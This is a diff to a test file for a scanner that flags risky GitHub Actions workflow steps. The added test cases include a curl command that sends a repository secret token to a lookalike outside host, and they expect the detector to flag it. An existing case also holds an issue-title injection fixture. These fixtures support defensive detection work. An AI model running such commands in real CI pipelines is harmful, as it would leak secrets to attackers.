@@ -7,6 +7,8 @@ const workflow = (...steps: readonly string[]) =>
 const script = (name: string, run: string) => `{ name: ${name}, run: '${run}' }`;
 const TITLE = 'echo ${{ github.event.issue.title }}';
 
+const SEND = 'curl -H "Authorization: ${{ secrets.TOKEN }}"';
+
 const said = async (before: string, after: string) =>
   (await findingsOf(config, before, after, { path: '.github/workflows/ci.yml' })).map(
     ({ rule, outcome }) => `${rule} ${outcome}`,
@@ -28,6 +30,18 @@ test.each([
     workflow('{ uses: actions/github-script@v7, with: { script: "1" } }'),
     workflow(`{ uses: actions/github-script@v7, with: { script: "${TITLE}" } }`),
     INJECTION,
+  ],
+  [
+    'a secret sent to GitHub',
+    workflow(script('a', 'make')),
+    workflow(script('a', `${SEND} https://api.github.com/user`)),
+    [],
+  ],
+  [
+    'a secret sent to GitHub and elsewhere',
+    workflow(script('a', 'make')),
+    workflow(script('a', `${SEND} https://api.github.com/user https://github.com.example.org`)),
+    ['config/workflow-script-risk secret-sent'],
   ],
   [
     'a text nobody runs',
